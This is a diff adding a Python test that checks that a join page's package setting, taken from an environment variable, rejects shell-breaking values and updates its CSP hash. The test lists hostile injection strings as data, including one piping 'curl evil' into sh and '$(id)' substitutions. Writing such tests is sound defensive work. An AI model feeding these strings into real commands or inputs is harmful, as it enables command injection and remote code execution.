@@ -158,3 +158,20 @@ def test_the_page_shows_the_command_with_the_invite():
     readme = (Path(__file__).parent.parent / "README.md").read_text()
     for shown in (command, windows, short):
         assert shown.replace(TEXT, "INVITE") in readme.splitlines()
+
+
+def test_the_operator_names_the_package_and_nothing_can_break_out_of_the_command():
+    """Until AssessIQ is on PyPI a bare name is one anyone could publish: the operator sets
+    ASSESSIQ_JOIN_PACKAGE (a release, or a wheel's URL); text that could end the quoted
+    requirement in a shell is refused for the default."""
+    from signaling.joinpage import DEFAULT_PACKAGE, join_package
+
+    wheel = "assessiq[candidate] @ https://example.org/assessiq-0.1.0-py3-none-any.whl"
+    assert join_package({}) == DEFAULT_PACKAGE
+    assert join_package({"ASSESSIQ_JOIN_PACKAGE": f" {wheel} "}) == wheel
+    for hostile in ('x"; curl evil | sh; "', "x$(id)", "x`id`", "x\\", "</script>"):
+        assert join_package({"ASSESSIQ_JOIN_PACKAGE": hostile}) == DEFAULT_PACKAGE
+    html, csp = join_page(wheel)
+    assert f'var pkg = "{wheel}";' in html.decode()
+    # the inline script's hash follows the text it carries
+    assert csp != join_page(DEFAULT_PACKAGE)[1]
